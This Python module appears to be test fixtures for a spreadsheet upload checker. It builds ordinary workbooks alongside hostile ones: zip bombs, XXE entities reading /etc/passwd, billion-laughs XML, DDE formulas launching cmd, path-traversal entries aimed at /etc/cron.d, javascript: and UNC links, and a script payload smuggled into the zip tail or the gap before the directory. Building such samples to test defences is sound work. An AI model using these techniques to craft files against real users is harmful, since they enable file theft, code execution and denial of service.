"""Workbooks as offices send them, and zips that burst, lie or bring something along."""

import io
import struct
import zipfile

import xlsxwriter

from .photo import SCRIPT

TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/xl/workbook.xml" ContentType="{}"/></Types>'
)
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
)
EMPTY = "<worksheet><sheetData/></worksheet>"
SHEET = "xl/worksheets/sheet1.xml"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    "<worksheet><sheetData><row><c><v>&b;</v></c></row></sheetData></worksheet>"
)
ENTITY = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'


def packed(*files: tuple[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as bundle:
        for name, content in files:
            bundle.writestr(name, content)
    return target.getvalue()


def book(*more: tuple[str, str | bytes], sheet: str | bytes = EMPTY, main: str = TYPE, inside: str = "") -> bytes:
    """The least that is a workbook."""
    head = ("xl/workbook.xml", f"<workbook>{inside}</workbook>")
    return packed(("[Content_Types].xml", TYPES.format(main)), head, (SHEET, sheet), *more)


def formula(text: str) -> bytes:
    return book(sheet=f"<worksheet><sheetData><row><c><f>{text}</f></c></row></sheetData></worksheet>")


def ordinary(rows: int = 50) -> bytes:
    target = io.BytesIO()
    workbook = xlsxwriter.Workbook(target)
    sheet = workbook.add_worksheet("台账")
    for row in range(rows):
        sheet.write_row(row, 0, ["集英花园", row, 8316.5])
        sheet.write_formula(row, 3, f"=SUM(B1:C{row + 1})")
    sheet.write_url(0, 5, "https://example.com/")
    sheet.write_comment(1, 1, "已核对")
    chart = workbook.add_chart({"type": "column"})
    chart.add_series({"values": "=台账!$B$1:$B$9"})
    sheet.insert_chart("H2", chart)
    workbook.close()
    return target.getvalue()


def link(kind: str, target: str) -> tuple[str, str]:
    return "xl/worksheets/_rels/sheet1.xml.rels", RELATION.format(kind=kind, target=target)


def lying() -> bytes:
    """The directory says 100 bytes, the stream holds thirty million."""
    whole = bytearray(book(sheet="<worksheet>" + " " * 30_000_000 + "</worksheet>"))
    name = SHEET.encode()
    struct.pack_into("<I", whole, whole.find(name) - 30 + 22, 100)
    struct.pack_into("<I", whole, whole.rfind(name) - 46 + 24, 100)
    return bytes(whole)


def bad_sum() -> bytes:
    parts = ("[Content_Types].xml", TYPES.format(TYPE)), ("xl/workbook.xml", "<workbook/>"), (SHEET, EMPTY)
    whole = bytearray(packed(*parts, method=zipfile.ZIP_STORED))
    at = whole.find(b"<worksheet>")
    whole[at + 1] ^= 1
    return bytes(whole)


def twice() -> bytes:
    """Two files of one name: who reads the first sees another book than who reads the last."""
    whole = book(("xl/worksheets/sheet2.xml", "<worksheet><row/></worksheet>"))
    return whole.replace(b"sheet2.xml", b"sheet1.xml")


def locked() -> bytes:
    """Marked as encrypted, in the way zips are."""
    whole = bytearray(book())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = whole.find(mark)
        while at >= 0:
            whole[at + offset] |= 1
            at = whole.find(mark, at + 1)
    return bytes(whole)


def gap() -> bytes:
    """Something between the files and the directory, which nobody reading the zip will ever see."""
    whole = bytearray(ordinary())
    at = whole.find(b"PK\x01\x02")
    whole[at:at] = SCRIPT
    struct.pack_into("<L", whole, whole.rfind(b"PK\x05\x06") + 16, at + len(SCRIPT))
    return bytes(whole)


_CELLS = "<worksheet><sheetData>" + ("<row>" + "<c/>" * 100 + "</row>") * 16_000 + "</sheetData></worksheet>"
GOOD = {"ordinary.xlsx": ordinary, "long.xlsx": lambda: ordinary(3000), "least.xlsx": book}
CARRIERS = {
    "tail.xlsx": lambda: ordinary() + SCRIPT,
    "gap.xlsx": gap,
}
BAD = {
    "bomb.xlsx": lambda: book(sheet="<worksheet>" + " " * 90_000_000 + "</worksheet>"),
    "lying.xlsx": lying,
    "laughs.xlsx": lambda: book(sheet=LAUGHS),
    "entity.xlsx": lambda: book(sheet=ENTITY),
    "entity-types.xlsx": lambda: packed(("[Content_Types].xml", ENTITY), ("xl/workbook.xml", "<a/>")),
    "macro.xlsm": lambda: book(("xl/vbaProject.bin", b"x")),
    "macro-type.xlsx": lambda: book(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "old-macro.xlsx": lambda: book(("xl/macrosheets/sheet1.xml", "<a/>")),
    "old-dialog.xlsx": lambda: book(("xl/dialogsheets/sheet1.xml", "<a/>")),
    "external-book.xlsx": lambda: book(("xl/externalLinks/externalLink1.xml", "<a/>")),
    "external-reference.xlsx": lambda: book(inside="<externalReferences><externalReference/></externalReferences>"),
    "external-picture.xlsx": lambda: book(link("image", "http://example.com/a.png")),
    "external-template.xlsx": lambda: book(link("attachedTemplate", "http://example.com/a.dotm")),
    "link-script.xlsx": lambda: book(link("hyperlink", "javascript:alert(1)")),
    "link-share.xlsx": lambda: book(link("hyperlink", "\\\\host\\share")),
    "link-file.xlsx": lambda: book(link("hyperlink", "file:///c:/windows/system32/cmd.exe")),
    "link-handler.xlsx": lambda: book(link("hyperlink", "ms-officecmd:run")),
    "dde.xlsx": lambda: formula("cmd|'/C calc'!A0"),
    "dde-name.xlsx": lambda: book(inside="<definedName>cmd|'/C calc'!A0</definedName>"),
    "dde-quoted.xlsx": lambda: formula("'cmd'|'/C calc'!A0"),
    "web-service.xlsx": lambda: formula("WEBSERVICE(&quot;http://example.com/&quot;&amp;A1)"),
    "rtd.xlsx": lambda: formula("RTD(&quot;prog.id&quot;,,&quot;a&quot;)"),
    "other-book.xlsx": lambda: formula("[1]Sheet1!A1"),
    "other-share.xlsx": lambda: formula("'\\\\host\\share\\[a.xlsx]S'!A1"),
    "connection.xlsx": lambda: book(("xl/connections.xml", "<connections/>")),
    "query.xlsx": lambda: book(("xl/queryTables/queryTable1.xml", "<a/>")),
    "ole.xlsx": lambda: book(("xl/embeddings/oleObject1.bin", b"x")),
    "ole-tag.xlsx": lambda: book(sheet="<worksheet><oleObjects><oleObject/></oleObjects></worksheet>"),
    "control.xlsx": lambda: book(("xl/activeX/activeX1.xml", "<a/>")),
    "ribbon.xlsx": lambda: book(("customUI/customUI.xml", "<a/>")),
    "nested.xlsx": lambda: book(("a.zip", packed(("b", "c")))),
    "nested-media.xlsx": lambda: book(("xl/media/image1.png", packed(("b", "c")))),
    "program-media.xlsx": lambda: book(("xl/media/image1.png", b"MZ" + bytes(99))),
    "html-media.xlsx": lambda: book(("xl/media/image1.png", b"<html>" + bytes(99))),
    "slip.xlsx": lambda: book(("../../etc/cron.d/x", "x")),
    "slip-windows.xlsx": lambda: book(("xl\\..\\..\\x.xml", "<x/>")),
    "absolute.xlsx": lambda: book(("/etc/passwd", "x")),
    "twice.xlsx": twice,
    "many-parts.xlsx": lambda: book(*((f"xl/worksheets/sheet{number}.xml", "<a/>") for number in range(2, 600))),
    "many-cells.xlsx": lambda: book(sheet=_CELLS),
    "long-formula.xlsx": lambda: formula("A" * 30_000),
    "not-xml.xlsx": lambda: book(sheet="<worksheet><row></worksheet>"),
    "other-encoding.xlsx": lambda: book(sheet=b"\xfe\xff\x00<"),
    "no-types.xlsx": lambda: packed(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<a/>")),
    "bad-sum.xlsx": bad_sum,
    "locked.xlsx": locked,
    "before.xlsx": lambda: b"junk" + book(),
    "cut.xlsx": lambda: ordinary()[:3000],
    "no-directory.xlsx": lambda: b"PK\x03\x04" + bytes(500),
    "packed-otherwise.xlsx": lambda: packed(("xl/workbook.xml", "<a/>"), method=zipfile.ZIP_BZIP2),
}  # fmt: skip
